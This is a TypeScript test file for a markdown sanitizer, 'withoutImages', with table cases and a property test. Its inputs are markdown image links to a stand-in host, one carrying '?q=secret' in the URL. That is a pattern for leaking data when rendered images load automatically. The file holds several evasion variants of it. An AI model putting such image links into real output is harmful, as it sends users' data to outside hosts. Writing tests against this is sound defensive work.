import assert from 'node:assert/strict';
import fc from 'fast-check';
import { withoutImages } from '../../../../src/presentation/actions/safeMarkdown.ts';

describe('withoutImages', () => {
  const table = [
    '![a](https://evil.example/?q=secret)',
    '![a [b] c](https://evil.example)',
    '![a][ref]\n\n[ref]: https://evil.example',
    '[![a](https://evil.example)](https://elsewhere.example)',
    '!![a](https://evil.example)',
  ];
  for (const text of table) {
    it(text.replaceAll('\n', ' '), () => {
      assert.ok(!withoutImages(text).includes('!['));
    });
  }

  it('leaves all else as it is', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const safe = withoutImages(text);
        assert.ok(!safe.includes('!['));
        if (!text.includes('\u200b')) assert.equal(safe.replaceAll('\u200b', ''), text);
      }),
    );
  });
});
